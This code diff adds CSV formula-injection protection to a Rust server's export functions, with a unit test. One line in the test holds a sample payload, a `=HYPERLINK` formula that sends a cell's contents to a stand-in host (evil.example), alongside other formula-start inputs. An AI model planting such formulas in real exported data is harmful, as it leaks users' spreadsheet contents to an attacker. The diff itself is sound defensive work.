@@ -177,14 +177,43 @@ pub fn cell(column: &str, value: &Value) -> String {
     }
 }
 
-/// How `value` of `column` is written in CSV (exact, no separators).
+/// How `value` of `column` is written in CSV (exact, no separators; text passed through
+/// [`csv_text`]).
 pub fn csv_cell(value: &Value) -> String {
     match value {
         Value::Null => String::new(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => csv_text(s),
         Value::Bool(b) => b.to_string(),
         other => other.to_string(),
     }
+}
+
+/// Text as a CSV cell a spreadsheet will not run: a cell starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return is prefixed with a single quote (OWASP's advice against CSV formula
+/// injection), so `=HYPERLINK(…)` arrives as the text `'=HYPERLINK(…)`. Plain numbers
+/// (`-1000.00`, `-31.5`) are left alone: a spreadsheet reads them as numbers, not formulas.
+/// Every CSV the server writes goes through this (cells and headers, see
+/// `pages::csv_response`).
+pub fn csv_text(text: &str) -> String {
+    let risky = matches!(
+        text.chars().next(),
+        Some('=' | '+' | '-' | '@' | '\t' | '\r')
+    );
+    if risky && !is_plain_number(text) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// `-123`, `-123.45`: an optional minus, digits, an optional fraction; nothing else.
+fn is_plain_number(text: &str) -> bool {
+    let digits = text.strip_prefix('-').unwrap_or(text);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().all(|b| b.is_ascii_digit())
+        && frac.bytes().all(|b| b.is_ascii_digit())
 }
 
 #[cfg(test)]
@@ -207,6 +236,22 @@ mod tests {
             "-31.0%"
         );
         assert_eq!(count_text(50000), "50,000");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+        assert_eq!(csv_text(formula), format!("'{formula}"));
+        for risky in [
+            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "-1.", "-.5", "-1e5",
+        ] {
+            assert!(csv_text(risky).starts_with('\''), "{risky:?}");
+        }
+        for safe in ["Jane Doe", "-1000.00", "-31", "12.5", "", "a=b", "'already"] {
+            assert_eq!(csv_text(safe), safe);
+        }
+        assert_eq!(csv_cell(&Value::String("=1+1".into())), "'=1+1");
+        assert_eq!(csv_cell(&serde_json::json!(-31.5)), "-31.5");
     }
 
     #[test]
